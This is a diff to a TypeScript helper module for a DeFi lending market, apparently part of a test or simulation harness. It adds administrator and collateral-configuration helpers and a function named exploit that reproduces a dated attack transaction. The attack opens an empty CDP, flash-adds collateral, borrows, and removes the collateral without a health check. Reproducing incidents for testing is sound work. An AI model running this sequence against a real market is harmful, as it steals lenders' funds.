@@ -82,6 +82,32 @@ export function sourceOf(resource: string): string {
 
 export const GENEROUS_ACCOUNTS = [ADDRESSES.faucetAccount, LENDERS_ACCOUNT, STAKERS_ACCOUNT] as const
 
+/** The market's operators. */
+export const ADMINISTRATOR_ACCOUNT = addressOf('account', 'administrator')
+
+export function setService(component: string, service: string, scope: string, enabled: boolean): Step[] {
+  return new Manifest().call(ADDRESSES.market, 'set_service', arg.text(component), arg.text(service), arg.text(scope), {
+    kind: 'bool',
+    value: enabled,
+  }).steps
+}
+
+export function updateCollateralConfig(
+  id: number,
+  config: { readonly loanToValue: Decimal; readonly thresholdSpread: Decimal; readonly bonusRate: Decimal },
+  formerValidS: number,
+): Step[] {
+  return new Manifest().call(
+    ADDRESSES.market,
+    'update_collateral_config',
+    { kind: 'integer', value: BigInt(id) },
+    arg.decimal(config.loanToValue),
+    arg.decimal(config.thresholdSpread),
+    arg.decimal(config.bonusRate),
+    { kind: 'integer', value: BigInt(formerValidS) },
+  ).steps
+}
+
 export function updatePrices(prices: ReadonlyMap<string, Decimal>): Step[] {
   return new Manifest(ADDRESSES.priceUpdaterAccount).call(ADDRESSES.priceFeed, 'update_prices', arg.amounts(prices))
     .steps
@@ -152,6 +178,44 @@ export function openCdp(
       arg.amounts(order.loans),
     )
     .depositAll(owner).steps
+}
+
+/**
+ * The transaction of 30 August 2026: an empty CDP, collateral added by a flash operation (the plain way may be switched off), loans
+ * taken at whatever price the market believes, and collateral taken out again without a health check.
+ */
+export function exploit(
+  owner: string,
+  cdpId: string,
+  order: {
+    readonly collaterals: ReadonlyMap<string, Decimal>
+    readonly loans: ReadonlyMap<string, Decimal>
+    readonly takeBack: ReadonlyMap<string, Decimal>
+  },
+): Step[] {
+  const manifest = new Manifest()
+  const nothing = arg.buckets()
+  const fee = manifest.take(XRD, Decimal.ZERO)
+  manifest
+    .call(
+      ADDRESSES.market,
+      'create_cdp',
+      arg.bucket(fee),
+      arg.none,
+      arg.none,
+      arg.none,
+      nothing,
+      nothing,
+      arg.amounts(new Map()),
+    )
+    .depositAll(owner)
+  const buckets = [...order.collaterals].map(([resource, amount]) => manifest.fund(resource, amount))
+  manifest
+    .call(ADDRESSES.market, 'flash_add_collateral', arg.id(cdpId), arg.buckets(...buckets))
+    .call(ADDRESSES.market, 'borrow', arg.id(cdpId), arg.amounts(order.loans))
+  if (order.takeBack.size > 0)
+    manifest.call(ADDRESSES.market, 'flash_remove_collateral', arg.id(cdpId), arg.amounts(order.takeBack))
+  return manifest.depositAll(owner).steps
 }
 
 export function closeCdp(
